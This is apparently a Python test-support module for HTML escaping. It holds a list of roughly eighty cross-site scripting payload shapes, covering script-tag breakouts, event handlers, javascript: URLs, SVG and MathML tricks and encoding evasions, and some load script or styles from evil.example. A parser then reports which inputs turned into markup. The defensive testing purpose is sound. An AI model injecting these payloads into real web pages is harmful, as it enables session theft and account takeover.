"""Strings that try to become markup, and a reader that says what became markup."""

from __future__ import annotations

from html.parser import HTMLParser

# Each, if a browser ran it, would leave the attribute `data-owned` on the root element.
RUN = "document.documentElement.setAttribute('data-owned','1')"

SHAPES = [
    "<script>{run}</script>",
    "</script><script>{run}</script>",
    "</title><script>{run}</script>",
    "</style><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "--><script>{run}</script>",
    "]]><script>{run}</script>",
    "</svg><script>{run}</script>",
    "</text></svg><img src=x onerror={run}>",
    "<ScRiPt>{run}</sCrIpT>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<<script>{run}//<</script>",
    "<script/xss>{run}</script>",
    "<script\n>{run}</script\n>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,{run}></script>",
    "<script type=module>{run}</script>",
    "<img src=x onerror={run}>",
    '<img src="x" onerror="{run}">',
    "<img/src='x'/onerror={run}>",
    '"><img src=x onerror={run}>',
    "'><img src=x onerror={run}>",
    '" onmouseover="{run}" x="',
    "' onfocus='{run}' autofocus='",
    "` onload=`{run}`",
    "<svg onload={run}>",
    "<svg/onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set onbegin={run} attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg onload={run}>'></use></svg>",
    "<svg><foreignObject><body onload={run}></foreignObject></svg>",
    "<svg><a xlink:href='javascript:{run}'><text>x</text></a></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:{run}>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<body onload={run}>",
    "<body background='javascript:{run}'>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<a href=javascript:{run}>click</a>",
    "<a href='jav&#x09;ascript:{run}'>click</a>",
    "<form action=javascript:{run}><button>x</button></form>",
    "<form><button formaction=javascript:{run}>x</button></form>",
    "<input onfocus={run} autofocus>",
    "<select onfocus={run} autofocus>",
    "<details open ontoggle={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<marquee onstart={run}>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/>",
    "<style>*{{background:url(https://evil.example/)}}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(https://evil.example/)'>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<xmp><p title='</xmp><img src=x onerror={run}>'>",
    "<!--[if gte IE 4]><script>{run}</script><![endif]-->",
    "<?xml version='1.0'?><script>{run}</script>",
    "<![CDATA[<script>{run}</script>]]>",
    "<!DOCTYPE html><script>{run}</script>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "\x3cscript\x3e{run}\x3c/script\x3e",
    "\x00<script>{run}</script>",
    "<\x00script>{run}</script>",
    "\ufeff<script>{run}</script>",
    "＜script＞{run}＜/script＞<script>{run}</script>",
    "\u202e<script>{run}</script>",
    "\ud83c<script>{run}</script>",
    "{{{{constructor.constructor('{run}')()}}}}<script>{run}</script>",
    "${{{run}}}<script>{run}</script>",
    "%3Cscript%3E{run}%3C/script%3E<b onclick={run}>",
    "javascript:{run}",
]
VARIANTS = ("{}", "a perfectly ordinary label {}", "{}" + " and on" * 60)
HOSTILE = [variant.format(shape.format(run=RUN)) for shape in SHAPES for variant in VARIANTS]


class Reader(HTMLParser):
    """Every element, attribute and text of a page."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.texts: list[str] = []
        self.oddities: list[str] = []
        self.open: list[str] = []
        self.unbalanced: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in {"meta", "br", "img", "link", "base", "input"}:
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.unbalanced.append(tag)

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        self.oddities.append(data)

    def handle_pi(self, data: str) -> None:
        self.oddities.append(data)

    def unknown_decl(self, data: str) -> None:
        self.oddities.append(data)

    @property
    def text(self) -> str:
        return "".join(self.texts)

    def count(self, tag: str) -> int:
        return sum(name == tag for name, _ in self.elements)


def with_texts(value: object, texts: list[str], at: list[int] | None = None) -> object:
    """The same structure with every text, and every key that is a user's own, replaced by the next hostile one."""
    at = at if at is not None else [0]
    if isinstance(value, str):
        at[0] += 1
        return texts[at[0] % len(texts)]
    if isinstance(value, dict):
        return {key: with_texts(inner, texts, at) for key, inner in value.items()}
    if isinstance(value, (list, tuple)):
        return [with_texts(inner, texts, at) for inner in value]
    return value
